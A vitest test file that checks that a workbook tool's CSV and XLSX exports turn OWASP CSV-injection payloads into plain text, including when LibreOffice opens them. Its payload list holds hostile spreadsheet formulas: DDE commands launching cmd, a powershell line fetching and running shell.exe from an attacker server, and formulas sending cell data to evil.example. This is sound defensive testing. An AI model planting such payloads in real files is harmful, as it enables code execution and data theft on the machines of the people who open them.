import ExcelJS from 'exceljs';
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Report } from '../../../shared/schemas/report';
import { cpw, cpwJson, useTempDir } from '../../helpers';

/**
 * The payloads of OWASP's CSV Injection page (formula, DDE and hyperlink
 * forms, the leading characters = + - @ tab CR LF, and quoted and nested
 * variants), each as an account name and as an owner.
 */
const PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `=cmd|' /C notepad'!'A1'`,
  `=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0`,
  `+cmd|' /C calc'!A0`,
  `-cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?x="&A1&A2,"Error: please click for further information")`,
  `=DDE("cmd";"/C calc";"!A0")A0`,
  `=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")`,
  `=IMAGE("http://evil.example/1.png")`,
  `=WEBSERVICE("http://evil.example/?"&A1)`,
  `=1+2`,
  `+1+2`,
  `-1+2`,
  `@A1`,
  `\t=1+2`,
  `\r=1+2`,
  `\n=1+2`,
  ` =1+2`,
  `'=1+2`,
  `"=1+2"`,
  `=	1+2`,
  `=2+5+cmd|' /C calc'!A0`,
  `%0A=1+2`,
  `＝1+2`,
];

/** A cell a spreadsheet would run: text starting with = + - @ or a tab or CR that is not a plain number. */
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

describe('export: the OWASP CSV-injection payloads come out as text, never as a live formula', () => {
  const tmp = useTempDir();

  it(`${PAYLOADS.length} payloads as account names and owners: no live formula in CSV, in XLSX (exceljs), or in LibreOffice reading either`, async () => {
    const book = join(tmp(), 'w.cpw');
    const sheet = join(tmp(), 'in.csv');
    writeFileSync(sheet, Papa.unparse({ fields: ['account', 'owner', 'revenue'], data: PAYLOADS.map((p, k) => [`${p} #${k}`, p, 1000 + k]) }, { quotes: true }));
    expect((await cpw(['new', book])).code).toBe(0);
    const imported = await cpw(['import', book, sheet, '--period', 'Q1']);
    expect(imported.code, imported.stderr).toBe(0);
    // The names as the workbook keeps them (trimmed, spaces made one): what every export must show as text.
    const stored = (await cpwJson<Report>(['report', book, '--json'])).accounts;
    expect(stored).toHaveLength(PAYLOADS.length);
    const texts = stored.flatMap((a) => [a.account, a.owner ?? '']);

    const outCsv = join(tmp(), 'out.csv');
    const outXlsx = join(tmp(), 'out.xlsx');
    expect((await cpw(['export', book, '--out', outCsv])).code).toBe(0);
    expect((await cpw(['export', book, '--out', outXlsx])).code).toBe(0);

    // CSV: every text cell is the stored text, with a quote before the ones a spreadsheet would run.
    const rows = Papa.parse<string[]>(readFileSync(outCsv, 'utf8'), { skipEmptyLines: true }).data.slice(1);
    const csvCells = rows.flatMap((r) => r);
    expect(csvCells.filter(live)).toEqual([]);
    expect(rows.flatMap((r) => [r[0]!, r[1]!]).map((c) => c.replace(/^'(?=[=+\-@\t\r])/, ''))).toEqual(texts);

    // XLSX read by exceljs: string cells holding the stored text, no formula anywhere.
    const x = new ExcelJS.Workbook();
    await x.xlsx.readFile(outXlsx);
    const formulas: string[] = [];
    x.worksheets.forEach((ws) => ws.eachRow((row) => row.eachCell((cell) => void (cell.type === ExcelJS.ValueType.Formula && formulas.push(cell.address)))));
    expect(formulas).toEqual([]);
    const ws = x.worksheets[0]!;
    expect(stored.map((_, k) => [ws.getRow(k + 2).getCell(1).value, ws.getRow(k + 2).getCell(2).value ?? ''])).toEqual(stored.map((a) => [a.account, a.owner ?? '']));

    // LibreOffice, as a user would open each file: the XLSX's names come back as the same text, and
    // the CSV turned into a spreadsheet by LibreOffice holds no formula either.
    // (LibreOffice writes the full-width ＝ as =, so the texts are compared in Unicode's compatibility form.)
    const lo = join(tmp(), 'lo');
    execFileSync('soffice', ['--headless', '--convert-to', 'csv', '--outdir', lo, outXlsx], { stdio: 'ignore', timeout: 120_000 });
    const seen = Papa.parse<string[]>(readFileSync(join(lo, 'out.csv'), 'utf8'), { skipEmptyLines: true }).data.slice(1);
    expect(seen.flatMap((r) => [r[0]!, r[1]!]).map((t) => t.normalize('NFKC'))).toEqual(texts.map((t) => t.normalize('NFKC')));
    const loFormulas: string[] = [];
    for (const [from, dir] of [[outXlsx, 'lo-xlsx'], [outCsv, 'lo-csv']] as const) {
      execFileSync('soffice', ['--headless', '--convert-to', 'xlsx', '--outdir', join(tmp(), dir), from], { stdio: 'ignore', timeout: 120_000 });
      const viaLo = new ExcelJS.Workbook();
      await viaLo.xlsx.readFile(join(tmp(), dir, 'out.xlsx'));
      viaLo.eachSheet((sheet) =>
        sheet.eachRow((row) => row.eachCell((cell) => void (cell.type === ExcelJS.ValueType.Formula && loFormulas.push(`${dir} ${cell.address} ${String(cell.formula)}`)))),
      );
    }
    expect(loFormulas).toEqual([]);
  }, 240_000);
});
